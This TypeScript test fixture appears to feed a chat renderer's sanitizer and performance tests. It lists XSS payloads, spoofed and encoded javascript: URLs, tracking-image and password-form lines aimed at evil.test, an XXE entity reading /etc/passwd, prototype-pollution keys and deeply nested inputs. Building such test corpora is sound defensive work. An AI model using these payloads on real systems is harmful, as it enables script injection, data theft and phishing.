/** Texts that want to run something, ask somebody else for something, or look like what they are not; by kind. */
const addresses = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "javascript\t:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
  "javascript&#x3a;alert(1)", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)", "\u0001javascript:alert(1)", "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "javascript\u200b:alert(1)", "jav\u00adascript:alert(1)", "javascript://example.com/%0aalert(1)",
  "javascript:/*--></title></style>*/alert(1)", "vbscript:msgbox(1)", "VBScript:msgbox(1)", "vbscript&#58;msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x", "data:image/svg+xml,<svg onload=alert(1)>", "data:application/javascript,alert(1)", "blob:https://chat.test/1", "file:///etc/passwd",
  "filesystem:https://chat.test/x", "about:blank", "view-source:https://example.com", "jar:https://example.com!/x", "ftp://example.com/x", "ws://example.com/", "tel:+123", "sms:+123", "intent://x#Intent;end", "ms-word:ofe|u|https://evil.test",
  "chrome://settings", "moz-extension://x/y", "x-apple.systempreferences:", "feed:javascript:alert(1)", "https://user:pw@evil.test/", "https://example.com@evil.test/", "http://chat.test\u202egro.live", "https://evil.test\u2028/x", "https:\u0000//evil.test",
];

const html = [
  "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<script\n>alert(1)</script\n>", "<img src=x onerror=alert(1)>", "<IMG SRC=https://evil.test/a.png>",
  "<img src=x onerror=&#97;lert(1)>", "<img srcset=\"https://evil.test/a.png 1x\">", "<img/src=x/onerror=alert(1)>", "<picture><source srcset=https://evil.test/a><img></picture>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><use href=\"https://evil.test/x.svg#a\"/></svg>", "<svg><image href=https://evil.test/a.png></svg>", "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
  "<svg><set attributeName=onload to=alert(1)>", "<svg><style>*{background:url(https://evil.test)}</style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=\"javascript:alert(1)\">x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>", "<style>*{display:none}</style>", "<style>@import 'https://evil.test/x.css';</style>", "<div style=\"position:fixed;inset:0;background:red\">x</div>", "<p style=\"background:url(https://evil.test/x)\">x</p>",
  "<link rel=stylesheet href=https://evil.test/x.css>", "<link rel=prefetch href=https://evil.test/>", "<link rel=dns-prefetch href=//evil.test>", "<base href=https://evil.test/>", "<meta http-equiv=refresh content=\"0;url=https://evil.test\">", "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
  "<iframe src=https://evil.test></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<frame src=https://evil.test>", "<frameset onload=alert(1)>", "<object data=https://evil.test></object>", "<embed src=https://evil.test>", "<applet code=x>", "<form action=https://evil.test><input name=password><button>Sign in</button></form>",
  "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x</button>", "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video src=https://evil.test/x autoplay></video>",
  "<video><source onerror=alert(1)></video>", "<audio src=https://evil.test/x autoplay></audio>", "<track src=https://evil.test/x>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<marquee onstart=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<a href=https://evil.test ping=https://evil.test/p>x</a>", "<a name=forms>x</a>",
  "<img name=body><img id=getElementById>", "<form id=app><input name=children></form>", "<div id=app>x</div>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "<x onclick=alert(1)>x</x>", "<dialog open>x</dialog>", "<div popover id=x>x</div><button popovertarget=x>x</button>", "<slot name=x>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<table background=https://evil.test/x><td>",
  "<b/onclick=alert(1)>x</b>", "<br onload=alert(1)>", "<br style=position:fixed>", "<span class=\"button danger\">Delete</span>", "<div class=\"unseen\">hidden</div>", "</main></div></body>", "<portal src=https://evil.test>", "<fencedframe src=https://evil.test>", "<svg/onload=alert(1)//", "<img src=`x`onerror=alert(1)>", "<<script>alert(1);//<</script>",
  "<custom-element is=script src=https://evil.test>", "<link rel=preload as=image imagesrcset=https://evil.test/x>", "<img src=x:x onerror=alert(1) loading=lazy>", "<svg><filter><feImage href=https://evil.test/x></filter></svg>",
];

const markdown = [
  "![track](https://evil.test/pixel.png?secret=abc)", "![](//evil.test/x.png)", "![x](http://evil.test/x.png \"t\")", "![x][i]\n\n[i]: https://evil.test/x.png", "![i]\n\n[i]: //evil.test/x.png", "[![x](https://evil.test/x.png)](https://evil.test)", "![x](\\\\evil.test\\x.png)", "![x](/\\evil.test/x.png)",
  "![x](https:evil.test/x.png)", "![x](data:image/png;base64,AAAA)", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x](blob:x)", "![x](<https://evil.test/a b.png>)", "![x](&#104;ttps://evil.test/x.png)", "![x](https://localhost@evil.test/x.png)", "![onerror=alert(1)](x\" onerror=\"alert(1))", "![\" onerror=\"alert(1)](assets/pixel.png)",
  "<https://evil.test/\"onclick=alert(1)>", "<javascript:alert(1)>", "<data:text/html,x>", "<vbscript:x>", "<x:y>", "javascript:alert(1)", "www.evil.test/\"onmouseover=\"alert(1)", "https://evil.test/<script>alert(1)</script>", "[x](https://evil.test \"\\\" onclick=alert(1) \\\"\")", "[x](https://evil.test 'a\" style=\"x')",
  "[x](https://evil.test/\"onclick=\"alert(1))", "[https://bank.test](https://evil.test)", "[bank.test](https://evil.test/bank.test)", "[example.com\u202e](https://evil.test)", "[ex\u0430mple.com](https://ex\u0430mple.com)", "[x](https://ex\u0430mple.com)", "[x](//evil.test)", "[x](/\\evil.test)", "[x](\\\\evil.test)", "[x](https:/evil.test)",
  "[x](?q=1)", "[x](#app)", "[x](../../../api/threads)", "[a]: javascript:alert(1)\n\n[a]", "[a]: <javascript:alert(1)> \"t\"\n\n[x][a]", "[a]: https://evil.test \"x\" onclick=alert(1)\n\n[a]", "[__proto__]: https://evil.test\n\n[__proto__]", "[constructor]\n\n[toString][]", "[hasOwnProperty]: /x\n\n[hasOwnProperty]",
  "[^__proto__]: x\n\n[^__proto__]", "[^a\"onclick=alert(1)]: x\n\n[^a\"onclick=alert(1)]", "[^app]: x\n\n[^app] [^app]", "[^1]: one\n[^1]: two\n\n[^1]", "[^1]: [^1]: [^1]: x\n\n[^1]", "# <img src=x onerror=alert(1)>", "# app\n\n## app", "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <style>*{}</style> |",
  "|a|\n|:-:|\n|[x](javascript:alert(1))|", "- <script>alert(1)</script>\n- [ ] <input onfocus=alert(1)>", "> <iframe src=javascript:alert(1)>", "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "*<b onclick=alert(1)>*", "**<svg/onload=alert(1)>**", "~~<style>*{}</style>~~", "\\<script>alert(1)\\</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;", "a <br> b <br/> c <br onload=alert(1)>", "\u202etxet desrever\u202c", "\u2066isolated", "a\u0000b", "\ud800 \udfff lone halves", "\ufeff# heading", "[\u202e](https://evil.test)", "`\u202e code`", "```\n\u202e } // admin\n```", "```c\nif (a) {\u2066 // check \u2069\n```", "Z\u0351\u036b\u0343\u036a\u0302\u0350a\u0334\u0335\u031el\u0344g\u033f\u0321o",
];

const code = [
  "javascript\"onclick=\"alert(1)", "<script>alert(1)</script>", "js onload=alert(1)", "js{style=position:fixed}", "../../../etc/passwd", "__proto__", "constructor", "toString", "html", "xml", "svg", "language-js\" style=\"x", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "\u202ejs", "a".repeat(3_000), "js\tclass=button", "css", "\"><img src=x onerror=alert(1)>", "&quot;onclick",
].map((info) => `\`\`\`${info}\n<img src=x onerror=alert(1)>\n<style>*{display:none}</style>\n\`\`\`\n`);

const formulas = [
  "\\href{javascript:alert(1)}{x}", "\\href{https://evil.test}{x}", "\\url{javascript:alert(1)}", "\\includegraphics{https://evil.test/x.png}", "\\includegraphics[width=1em]{javascript:alert(1)}", "\\htmlId{app}{x}", "\\htmlClass{button}{x}", "\\htmlStyle{position:fixed;inset:0}{x}", "\\htmlData{a=b}{x}", "\\class{unseen}{x}", "\\id{app}{x}", "\\style{position:fixed}{x}", "\\cssId{app}{x}", "\\data{onclick=alert(1)}{x}",
  "\\text{<script>alert(1)</script>}", "\\text{<img src=x onerror=alert(1)>}", "\\color{url(https://evil.test)}x", "\\textcolor{red;position:fixed}{x}", "\\colorbox{expression(alert(1))}{x}", "\\fcolorbox{red}{url(//evil.test)}{x}", "\\def\\a{\\a\\a}\\a", "\\def\\a{b}\\def\\b{\\a}\\b", "\\newcommand{\\x}{\\x\\x\\x}\\x", "\\gdef\\int{\\href{javascript:alert(1)}{x}}\\int", "\\let\\sum\\href\\sum{javascript:alert(1)}{x}",
  "\\def\\a#1{#1#1#1#1#1#1#1#1}\\a{\\a{\\a{\\a{\\a{x}}}}}", "\\rule{1000em}{1000em}", "\\kern9999em x", "\\raisebox{9999em}{x}", "\\hspace{99999pt}x", "\\Huge\\Huge\\Huge x", "\\begin{array}{" + "c".repeat(400) + "}" + "x&".repeat(400) + "x\\end{array}", "\\label{app}\\tag{<img>}x", "\\ref{app}", "\\unicode{x202e}x", "\\char\"202E x", "\\text{\u202ex}", "\\operatorname{<script>}", "\\require{x}", "\\verb|<script>alert(1)</script>|", "\\mathchoice{a}{b}{c}{d}", "\\ce{\\href{javascript:alert(1)}{x}}",
  "{".repeat(2_000) + "x" + "}".repeat(2_000), "\\sqrt{".repeat(400) + "x" + "}".repeat(400), "x^{".repeat(300) + "x" + "}".repeat(300), "\\frac{1}{".repeat(300) + "x" + "}".repeat(300), "\\left(".repeat(300) + "x",
].flatMap((source) => [`$$\n${source}\n$$\n`, `so \\(${source}\\) it is`]);

/** Texts whose reading must not take much more than their length. */
export const large: Readonly<Record<string, string>> = Object.fromEntries([
  "[", "![", "]", "[a](", "[a](b", "[a][", "[[a]", "*a ", "**a ", "*a_", "_a", "***", "*_", "~~a ", "`a", "`", "``a`", "<", "<a ", "<!--", "<a href=\"", "&", "&amp", "\\", "$a", "$", "\\(", "|", "| a ", "> ", ">", "- ", "  - ", "1. ", "#", "a\n", "\n", " ", "\t", "=", "-", "_", "*", "+ ", "https://a.b/", "www.a", "a@b.c ", "[^a]", "[^a]: ", "[a]: b\n", "(", ")", "!", "![a](b)", "*[a](b)", "~~~\n", "```\n", "$$\n", "a | b\n", "|-", "<div>\n", "<x ", "a**b", "\u202e", "\ud83d\ude00",
].map((unit) => [`${JSON.stringify(unit)} repeated`, unit.repeat(Math.ceil(20_000 / unit.length))]));

const nested = [
  `${"> ".repeat(500)}deep`, `${">".repeat(5_000)}deep`, Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- item`).join("\n"), `${"- ".repeat(1_000)}deep`, `${"1. ".repeat(500)}deep`, "*a **b ".repeat(300), `${"[".repeat(500)}x${"](/a)".repeat(500)}`, `${"**".repeat(1_000)}x`, `${"*a ".repeat(500)}${"a* ".repeat(500)}`, `${"_*".repeat(500)}x${"*_".repeat(500)}`, `${"![".repeat(400)}x${"](a)".repeat(400)}`,
];

const inLinks = addresses.flatMap((address) => [`[x](<${address}>)`, `![x](<${address}>)`, `see [x][a]\n\n[a]: <${address}>`]);

export const hostile: readonly string[] = [...inLinks, ...addresses.map((address) => `<${address}> and [x](${address})`), ...html, ...html.map((text) => `before ${text} **after**`), ...markdown, ...code, ...formulas, ...nested];
